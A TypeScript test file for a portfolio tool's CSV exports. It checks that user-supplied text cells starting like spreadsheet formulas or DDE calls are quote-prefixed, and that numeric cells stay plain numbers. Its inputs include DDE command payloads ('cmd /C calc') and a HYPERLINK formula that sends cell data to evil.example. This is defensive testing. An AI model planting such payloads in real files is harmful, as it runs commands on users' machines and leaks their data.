import { describe, expect, it } from 'vitest';
import { fixtureRun } from '../report/report-fixture';
import { csvCell, csvDocument, csvText } from './csv';
import { exportCsv, exportJson, exposuresCsv, fanCsv, holdingsCsv, ladderCsv } from './run-csv';
import { runJson } from './run-json';

/** A minimal RFC 4180 reader for checking what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ['\tcmd', `"'\tcmd"`],
    ['\rcmd', `"'\rcmd"`],
    ['\ncmd', `"'\ncmd"`],
    ['|cmd', `"'|cmd"`],
    ["|cmd '/C calc'!A0", `"'|cmd '/C calc'!A0"`],
    ['=cmd|\' /C calc\'!A0', `"'=cmd|' /C calc'!A0"`],
    ['  =1+1', `"'  =1+1"`],
    ['-5', `"'-5"`],
  ])('neutralises the formula-like text %j', (text, cell) => {
    expect(csvText(text)).toBe(cell);
  });
  it('quotes texts with commas, quotes or line breaks and leaves plain ones alone', () => {
    expect(csvText('NVIDIA Corp')).toBe('NVIDIA Corp');
    expect(csvText('Smith, John')).toBe('"Smith, John"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('a=b')).toBe('a=b');
    expect(csvText('a|b')).toBe('a|b');
    expect(csvText('2-3')).toBe('2-3');
  });
  it('quotes a text with a semicolon or a tab, so a spreadsheet that splits on them does not start a cell at “=”', () => {
    expect(csvText('x;=1+1')).toBe('"x;=1+1"');
    expect(csvText('x\t=1+1')).toBe('"x\t=1+1"');
  });
  it('writes numbers as numbers: a negative number stays -12.5, unquoted', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(-0)).toBe('0');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
  });
  it('ends every line with CRLF', () => {
    expect(csvDocument(['a', 'b'], [[1, 'x']])).toBe('a,b\r\n1,x\r\n');
  });
});

describe('text cells from the user’s file and numbers from ours', () => {
  // The fixture book with hostile texts where a user's file puts text: names, accounts, symbols; one short position.
  const base = fixtureRun();
  const hostile = ['-2+3', "|cmd '/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(A1:A9)', '@SUM(1)', '\t=1'];
  const run = {
    ...base,
    inputs: {
      ...base.inputs,
      portfolio: {
        ...base.inputs.portfolio,
        holdings: base.inputs.portfolio.holdings.map((h, i) => ({
          ...h,
          name: hostile[i % hostile.length]!,
          account: hostile[(i + 1) % hostile.length]!,
          symbol: i === 2 ? '-MSTR' : h.symbol,
          quantity: i === 2 ? -100 : h.quantity,
        })),
      },
    },
  };
  const rows = parseCsv(holdingsCsv(run));
  const column = (name: string) => rows[0]!.indexOf(name);

  it('neutralises every text cell that starts like a formula or a DDE call', () => {
    expect(rows[1]![column('name')]).toBe("'-2+3");
    expect(rows[2]![column('name')]).toBe("'|cmd '/C calc'!A0");
    expect(rows[3]![column('name')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[1]![column('account')]).toBe("'|cmd '/C calc'!A0");
    expect(rows[3]![column('symbol')]).toBe("'-MSTR");
    for (const row of rows.slice(1)) {
      for (const name of ['account', 'symbol', 'name']) {
        const cell = row[column(name)]!;
        if (/^[\s]*[=+\-@|]|^[\t\r\n]/.test(cell)) throw new Error(`unneutralised ${name} cell ${cell}`);
      }
    }
  });

  it('keeps the cells it writes from numbers as numbers, negative ones too', () => {
    const short = rows[3]!;
    expect(short[column('quantity')]).toBe('-100');
    const loan = rows.find((r) => r[column('symbol')] === 'LOAN')!;
    expect(loan[column('market_value')]).toBe('-35000');
    expect(loan[column('value_base')]).toBe('-35000');
    // Unquoted in the file: what a spreadsheet reads as a number.
    expect(holdingsCsv(run)).toMatch(/,-35000,-35000,USD,/);
    for (const row of rows.slice(1)) {
      for (const name of ['quantity', 'price', 'market_value', 'value_base', 'phase_one_loss', 'loss_pct_of_value']) {
        const cell = row[column(name)]!;
        if (cell !== '') expect(Number.isFinite(Number(cell)), `${name} ${cell}`).toBe(true);
      }
    }
    // A negative number in the other exports stays a number as well.
    expect(parseCsv(exposuresCsv(run)).find((r) => r[0] === 'cash')?.[2]).toBe('-25000');
  });
});

describe('the run exports', () => {
  const run = fixtureRun();

  it('has one holdings row per holding, hostile texts neutralised, numbers plain', () => {
    const text = holdingsCsv(run);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['account', 'symbol', 'name', 'currency', 'quantity', 'price', 'market_value', 'value_base', 'base_currency', 'exposures', 'exposure_sources', 'phase_one_loss', 'loss_pct_of_value', 'default_probability', 'forced_sale_proceeds', 'forced_sale_cost']);
    expect(rows).toHaveLength(1 + run.inputs.portfolio.holdings.length);
    const ibit = rows.find((r) => r[1] === 'IBIT')!;
    expect(ibit[0]).toBe("'@SUM(1)");
    expect(ibit[2]).toBe(`'=HYPERLINK("http://x")`);
    expect(text).toContain(`"'=HYPERLINK(""http://x"")"`);
    expect(text).toContain(`"'@SUM(1)"`);
    const loan = rows.find((r) => r[1] === 'LOAN')!;
    expect(loan[6]).toBe('-35000');
    expect(text).toMatch(/,-35000,-35000,USD,/);
    const mara = rows.find((r) => r[1] === 'MARA 2031')!;
    expect(mara[10]).toBe('user');
    expect(Number(mara[13])).toBeGreaterThan(0);
    // No cell a spreadsheet would run: every cell starting with a formula character is a quoted, quote-prefixed text.
    for (const row of rows) for (const cell of row) if (/^[=+@\t\r\n]/.test(cell)) throw new Error(`unneutralised cell ${cell}`);
  });

  it('exports exposures, the fan by week and the ladder by day', () => {
    const exposures = parseCsv(exposuresCsv(run));
    expect(exposures[0]).toEqual(['exposure', 'label', 'value_base', 'phase_one_loss', 'share_of_loss', 'loss_pct_of_value', 'mean_end_value']);
    // Value 60,000 exactly; the loss is the run's expected loss over its paths, to the cent (on the mean path it would
    // be 60,000 × 40 % = 24,000: severity dispersion and the floor at −100 % make the mean over paths larger).
    const ai = exposures.find((r) => r[0] === 'ai_equity')!;
    expect(ai.slice(0, 3)).toEqual(['ai_equity', 'AI equity', '60000']);
    expect(Number(ai[3])).toBeCloseTo(run.record.result.phaseOne.byExposure.ai_equity!, 2);
    expect(Number(ai[3])).toBeGreaterThan(24_000);
    expect(exposures.find((r) => r[0] === 'cash')?.[2]).toBe('-25000');
    const fan = parseCsv(fanCsv(run));
    expect(fan[0]).toEqual(['week', 'p5', 'p25', 'p50', 'p75', 'p95', 'recovery_probability', 'pre_shock_value']);
    expect(fan).toHaveLength(1 + run.record.result.phaseTwo.weeks.length);
    expect(fan[1]?.[0]).toBe('0');
    const ladder = parseCsv(ladderCsv(run));
    expect(ladder[0]?.slice(0, 3)).toEqual(['day', 'cash_raisable', 'impact_cost']);
    expect(ladder.map((r) => r[0])).toEqual(['day', ...run.record.result.phaseTwo.liquidityLadder.days.map(String)]);
  });

  it('names the files after the portfolio and the run', () => {
    expect(exportCsv(run, 'fan').fileName).toBe('aftershock-fan-fixture-book-0123abcd.csv');
    const json = exportJson(run);
    expect(json.fileName).toBe('aftershock-run-fixture-book-0123abcd.json');
    expect(JSON.parse(json.text)).toEqual(JSON.parse(JSON.stringify(runJson(run.record))));
  });
});
